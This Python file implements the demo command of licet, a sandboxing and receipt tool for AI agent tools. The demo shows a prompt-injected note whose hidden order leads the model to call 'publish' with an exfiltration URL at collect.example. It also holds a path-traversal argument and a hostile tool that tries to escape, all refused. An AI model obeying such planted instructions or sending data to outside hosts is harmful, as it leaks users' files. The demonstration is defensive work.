"""`licet demo`: what licet does, in commands that really run on a small agent, offline."""

import os
import re
import shlex
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from importlib.resources import as_file, files
from pathlib import Path
from typing import Any

import click
from msgspec import Struct
from msgspec.structs import replace

from licet.cli.options import FILE, json_option
from licet.cli.output import coloured, print_report, show, show_lines, wants_json

_REQUEST = re.compile(r"\ba-[0-9a-f]{12}\b")
_TOKEN = "a-token-of-yours"  # noqa: S105 - shown by the demo


class Step(Struct, frozen=True):
    """One command of the demo: what it shows, its words, and the text that its output must have."""

    about: str
    words: tuple[str, ...]
    expected: str
    code: int = 0
    lines: int = 40  # that are shown


LOOK = Step(
    "An agent has four tools. Its manifest, licet.yaml, says what they may touch; everything else is denied.",
    ("licet", "surface", "licet.yaml"),
    "reports.example.com",
)
STORY = (
    Step(
        "A call that is allowed. The tool runs in a process of its own, behind walls of the kernel.",
        ("licet", "call", "licet.yaml", "read_note", "city=oslo"),
        "dry by noon",
    ),
    Step(
        "A call that is refused: the path leaves the notes. The refusal names the lines that decided, and its receipt.",
        ("licet", "call", "licet.yaml", "read_note", "city=../private"),
        "denied: `read_note` may not fs:read:",
        1,
    ),
    Step(
        "A note has a hidden order for the model: send all notes to another host. The model obeys, licet refuses.",
        ("licet", "call", "licet.yaml", "publish", "url=https://collect.example/in", "text=Fog until ten."),
        "collect.example",
        1,
    ),
    Step(
        "A hostile tool. Without licet, its code does all of this:",
        ("python", "-c", "import json, tools; print(json.dumps(tools.attempts(), indent=2))"),
        "it worked: b",
    ),
    Step(
        "With licet, none of it works: the kernel refuses, and there is nothing of yours to find.",
        ("licet", "call", "licet.yaml", "summarise", "city=oslo"),
        "stopped: PermissionError",
    ),
    Step(
        "And it was found before it ran: `licet lint` compares the source of tools with what they declare.",
        ("licet", "lint", "tools.py"),
        "LIC103",
        1,
        12,
    ),
)
ASKS = Step(
    "A call that writes. A person must agree first.",
    ("licet", "call", "licet.yaml", "save_report", "city=oslo", "text=Take an umbrella."),
    "asks: `save_report`",
    1,
)
AGREES = Step("The person agrees,", ("licet", "approvals", "approve", "REQUEST", "--yes"), "approved")
WRITES = Step("and the same call runs.", ASKS.words, "saved reports/oslo.md")
RECORDS = (
    Step("Every call left a receipt.", ("licet", "receipts", "list"), "PATH_NOT_REACHABLE"),
    Step("They are linked by hashes and signed.", ("licet", "receipts", "verify"), "as they were written", 0, 1),
)
FLIPPED = Step(
    "Now one byte of one receipt is changed on the disk, as somebody would who wants to hide a call. It is found.",
    ("licet", "receipts", "verify"),
    "its bytes are not those that were hashed",
    1,
    1,
)


@click.command(name="demo")
@click.option(
    "--keep",
    metavar="[DIR]",
    type=FILE,
    is_flag=False,
    flag_value=Path("licet-demo"),
    help="Keep the agent and its receipts in this new directory.  [default: licet-demo]",
)
@json_option
@click.pass_context
def command(ctx: click.Context, keep: Path | None) -> None:
    """Show what licet does, in commands that really run on a small agent. Takes seconds, and needs no network.

    An allowed call, a refused one, a hijacked model, a tool that tries to escape, an approval, receipts, and a receipt
    that was changed. With --keep you can read the agent's files and repeat the commands.

    \b
      licet demo
      licet demo --keep my-demo

    \b
    Exit codes:
      0  everything went as it should
      1  something did not, for example because this machine has no walls: see `licet doctor`
    """
    with _place(keep) as place:
        ran = _Runner(place, quiet=wants_json())
        for step in (LOOK, *STORY):
            ran.play(step)
        asked = _REQUEST.search(ran.play(ASKS))
        ran.play(_with_request(AGREES, asked[0] if asked else ""))
        ran.play(WRITES)
        for step in RECORDS:
            ran.play(step)
        _change_one_byte(place / "state")
        ran.play(FLIPPED)
    print_report({"steps": ran.steps, "as_expected": not ran.surprises}, lambda _: _show_end(ran.surprises, keep))
    ctx.exit(1 if ran.surprises else 0)


def _show_end(surprises: list[str], keep: Path | None) -> None:
    if surprises:
        number = "a command" if len(surprises) == 1 else f"{len(surprises)} commands"
        text = f"licet: {number} did not end as expected; `licet doctor` says what this machine lacks:"
        show_lines([text, *(f"  {words}" for words in surprises)], err=True, colour="red")
        return
    show("")
    show("Everything went as it should.", colour="green")
    if keep is not None:
        show(f"To go on:  cd {shlex.quote(str(keep))} && export XDG_STATE_HOME=$PWD/state")
    show("Your own tools:  licet init tools.py   ·   an agent that you have:  licet init --mcp")


@contextmanager
def _place(keep: Path | None) -> Iterator[Path]:
    """A directory with a copy of the agent. It is removed at the end unless it is kept."""
    if keep is not None and keep.exists():
        raise click.BadParameter(f"{keep} exists already: name a new directory", param_hint="--keep")
    with as_file(files("licet.cli.demo_agent") / "agent") as agent, tempfile.TemporaryDirectory(prefix="licet-") as new:
        place = Path(new, "demo") if keep is None else keep
        try:
            shutil.copytree(agent, place, ignore=shutil.ignore_patterns("__pycache__"))
            (place / "reports").mkdir()
        except OSError as wrong:
            show(f"licet: {place} cannot be written: {wrong.strerror}", err=True, colour="red")
            click.get_current_context().exit(1)
        yield place.resolve()


class _Runner:
    """Runs the commands of the demo in one directory, and shows them."""

    def __init__(self, place: Path, *, quiet: bool) -> None:
        self._place, self._quiet = place, quiet
        self.steps: list[dict[str, Any]] = []
        kept = {name: value for name, value in os.environ.items() if not name.startswith(("LICET_", "XDG_"))}
        colours = {"FORCE_COLOR": "1"} if coloured() else {"NO_COLOR": "1"}
        own = {"XDG_STATE_HOME": str(place / "state"), "DEMO_TOKEN": _TOKEN, "PYTHONDONTWRITEBYTECODE": "1"}
        self._environment = {**kept, **colours, **own}

    def play(self, step: Step) -> str:
        """Run one command, show it with the first lines of its output, and return all output."""
        program, *rest = step.words
        words = [sys.executable, "-m", "licet", *rest] if program == "licet" else [sys.executable, *rest]
        if not self._quiet:
            show("")
            show(step.about, colour="blue")
            show(f"$ {shlex.join(step.words)}")
        ran = subprocess.run(  # noqa: S603 - the words are those of the table above
            words, cwd=self._place, env=self._environment, stdin=subprocess.DEVNULL, text=True, encoding="utf-8",
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False,
        )  # fmt: skip
        expected = ran.returncode == step.code and step.expected in ran.stdout
        about = {"about": step.about, "command": list(step.words), "exit_code": ran.returncode, "output": ran.stdout}
        self.steps.append({**about, "as_expected": expected})
        lines = ran.stdout.rstrip("\n").split("\n")
        for line in () if self._quiet else (*lines[: step.lines], *(["…"] if len(lines) > step.lines else [])):
            click.echo(line)
        return ran.stdout

    @property
    def surprises(self) -> list[str]:
        """The commands that did not end as expected."""
        return [shlex.join(step["command"]) for step in self.steps if not step["as_expected"]]


def _with_request(step: Step, request: str) -> Step:
    return replace(step, words=tuple(request if word == "REQUEST" else word for word in step.words))


def _change_one_byte(state: Path) -> None:
    """Change one letter in the file of the ledger: the name of a tool in an entry."""
    for ledger in state.rglob("ledger.sqlite"):
        db = sqlite3.connect(ledger)
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # so that the file has everything
        db.close()
        data = bytearray(ledger.read_bytes())
        at = data.find(b'"tool":"read_note"')
        if at >= 0:
            data[at + len(b'"tool":"re')] ^= 1
            ledger.write_bytes(data)
